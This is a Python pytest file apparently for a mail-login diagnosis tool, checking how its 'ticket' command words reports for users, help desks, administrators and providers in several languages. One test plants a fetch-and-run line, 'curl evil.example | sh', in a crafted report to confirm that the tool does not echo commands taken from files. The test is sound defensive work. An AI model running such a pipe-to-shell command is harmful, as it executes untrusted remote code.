"""What is sent about a saved report: the words, the evidence and the steps of whoever gets it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from diagnose.model import Certainty
from diagnose.model.report import Report
from diagnose.model.saved import machine_readable, plain_report, saved_report
from tests.commands.command_line import CommandLine
from tests.reports.samples import expired_certificate, healthy

SAVED = Path(__file__).parents[1] / "comparison" / "saved" / "2026-11-29-first-record.json"


def flat(words: str) -> str:
    return " ".join(words.split())


def test_the_person_gets_plain_words_and_steps(command: CommandLine) -> None:
    done = command("ticket", str(SAVED), "--to", "user", "--lang", "en")

    assert (done.code, done.err) == (0, "")
    assert flat(done.out).startswith("Subject: The server does not accept this user name and password (alice@corp.")
    assert "What you can do" in done.out
    assert "  1. Open " in done.out
    assert not any(word in done.out for word in ("credentials.rejected", "login.imap", "curl", "AUTHENTICATIONFAILED"))


def test_the_administrator_gets_evidence_commands_and_steps(command: CommandLine) -> None:
    done = command("ticket", str(SAVED), "--to", "administrator", "--lang", "en")

    assert "AUTHENTICATIONFAILED" in flat(done.out)
    assert "curl -gv" in done.out
    assert "What the administrator can do" in done.out
    assert "Close the mail program" not in done.out


def test_the_help_desk_gets_evidence_and_steps_of_its_own(command: CommandLine) -> None:
    done = command("ticket", str(SAVED), "--to", "helpdesk", "--lang", "en")

    assert "AUTHENTICATIONFAILED" in flat(done.out)
    assert "What the help desk can do" in done.out
    assert "What the administrator can do" not in done.out


def test_the_administrator_may_be_called_as_in_reports(command: CommandLine) -> None:
    assert command("ticket", str(SAVED), "--to", "admin") == command("ticket", str(SAVED), "--to", "administrator")


@pytest.mark.parametrize(("lang", "said"), [("en", "Hello,"), ("zh-Hans", "您好"), ("zh-Hant", "您好")])
def test_it_is_written_in_the_language_of_its_reader(lang: str, said: str, command: CommandLine) -> None:
    for recipient in ("user", "helpdesk", "administrator", "provider"):
        assert said in command("ticket", str(SAVED), "--to", recipient, "--lang", lang).out


@pytest.mark.parametrize("suffix", ["html", "md"])
def test_pages_and_texts_are_read_too(suffix: str, command: CommandLine, tmp_path: Path) -> None:
    block = machine_readable(saved_report(SAVED.read_bytes()))
    words = {"html": f"<script type='application/json'>\n{block}\n</script>", "md": f"<!--\n{block}\n-->"}
    file = tmp_path / f"report.{suffix}"
    file.write_text(words[suffix], "utf-8")

    assert command("ticket", str(file), "--lang", "en").out == command("ticket", str(SAVED), "--lang", "en").out


def test_names_are_hidden_as_in_reports(command: CommandLine) -> None:
    for recipient in ("user", "administrator", "provider"):
        assert "alice" not in command("ticket", str(SAVED), "--to", recipient, "--redact", "--lang", "en").out.lower()


def test_no_command_is_taken_from_a_file(command: CommandLine, tmp_path: Path) -> None:
    """Whoever sent it could have written that; the record alone makes commands."""
    plain: dict[str, Any] = plain_report(saved_report(SAVED.read_bytes()))
    bad = {"check": "login", "command": "curl evil.example | sh", "shows": "x"}
    for cause in plain["verdict"]["causes"]:
        cause["commands"] = [bad]
    for record in (plain["record"], None):
        file = tmp_path / "report.json"
        file.write_text(json.dumps(plain | {"record": record}), "utf-8")
        assert "evil.example" not in command("ticket", str(file), "--lang", "en").out


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("{}", "no report of diagnose"),
        ("hello", "it holds no report of diagnose"),
        ('{"schema_version": 99, "verdict": {}}', "newer diagnose"),
        (SAVED.read_text("utf-8")[:5000], "ends in the middle"),
    ],
)
def test_what_is_no_report_is_one_sentence(content: str, said: str, command: CommandLine, tmp_path: Path) -> None:
    file = tmp_path / "x.json"
    file.write_text(content, "utf-8")

    assert said in command.refused("ticket", str(file), "--lang", "en")
    assert "missing.json" in command.refused("ticket", "missing.json", "--lang", "en")


def saved(tmp_path: Path, report: Report) -> str:
    file = tmp_path / "saved.json"
    file.write_text(json.dumps(plain_report(report)), "utf-8")
    return str(file)


def test_of_a_login_that_works_the_person_hears_that_it_does_and_what_to_try(
    command: CommandLine, tmp_path: Path
) -> None:
    told = flat(command("ticket", saved(tmp_path, healthy()), "--to", "user", "--lang", "en").out)

    assert "found nothing that stands in its way" in told
    assert "1. The mailbox itself is in order." in told
    assert "found no cause" not in told


def judged(report: Report, certainty: Certainty) -> Report:
    """*report* with a first cause as sure as that; where it is a guess, nothing is clear."""
    first, *others = report.verdict.causes
    causes = (msgspec.structs.replace(first, certainty=certainty), *others)
    verdict = msgspec.structs.replace(report.verdict, causes=causes)
    if certainty == "possible":
        verdict = msgspec.structs.replace(verdict, status="inconclusive", exit_code=3)
    return msgspec.structs.replace(report, verdict=verdict)


@pytest.mark.parametrize(
    ("certainty", "told"),
    [
        ("confirmed", ""),
        ("likely", "This is likely, and not proven."),
        ("possible", "This is possible, and not proven."),
    ],
)
def test_a_ticket_is_as_sure_of_the_cause_as_the_report(
    certainty: Certainty, told: str, command: CommandLine, tmp_path: Path
) -> None:
    """A guess that is told as a fact sends people the wrong way."""
    file = saved(tmp_path, judged(expired_certificate(), certainty))
    person = flat(command("ticket", file, "--to", "user", "--lang", "en").out)

    assert (told in person, "not proven" in person) == (True, bool(told))
    assert ("this is our best guess" in person) == (certainty == "possible")
    for recipient in ("helpdesk", "administrator", "provider"):
        assert f"{certainty} · tls.cert-expired" in flat(command("ticket", file, "--to", recipient, "--lang", "en").out)


def test_who_has_no_steps_of_their_own_is_asked_to_act(command: CommandLine, tmp_path: Path) -> None:
    file = saved(tmp_path, expired_certificate())

    asked = "Please put this right, or tell us what we have to change."
    assert asked in flat(command("ticket", file, "--to", "provider", "--lang", "en").out)
    for recipient in ("user", "administrator"):
        assert asked not in flat(command("ticket", file, "--to", recipient, "--lang", "en").out)


def test_commands_are_announced_only_where_there_are_some(command: CommandLine, tmp_path: Path) -> None:
    with_some = flat(command("ticket", str(SAVED), "--lang", "en").out)
    without = flat(command("ticket", saved(tmp_path, expired_certificate()), "--lang", "en").out)

    assert ("by the commands below" in with_some, "To repeat it yourself" in with_some) == (True, True)
    assert ("by the commands below" in without, "To repeat it yourself" in without) == (False, False)


@pytest.mark.parametrize("recipient", ["administrator", "provider"])
@pytest.mark.parametrize(
    ("lang", "asked"), [("en", "what you found"), ("zh-Hans", "检查结果"), ("zh-Hant", "檢查結果")]
)
def test_of_a_login_that_works_nobody_is_asked_what_they_found(
    recipient: str, lang: str, asked: str, command: CommandLine, tmp_path: Path
) -> None:
    works = flat(command("ticket", saved(tmp_path, healthy()), "--to", recipient, "--lang", lang).out)
    fails = flat(command("ticket", saved(tmp_path, expired_certificate()), "--to", recipient, "--lang", lang).out)

    assert (asked in works, asked in fails) == (False, True)
    if lang == "en":
        assert "If the login fails again, please answer with the words that are seen then, and the time." in works


def test_where_no_cause_was_found_somebody_is_asked_still(command: CommandLine, tmp_path: Path) -> None:
    """A run that found nothing out is no login that works."""
    report = healthy()
    unclear = msgspec.structs.replace(
        report, record=None, verdict=msgspec.structs.replace(report.verdict, status="inconclusive", exit_code=3)
    )

    assert "Please answer with what you found" in flat(command("ticket", saved(tmp_path, unclear), "--lang", "en").out)
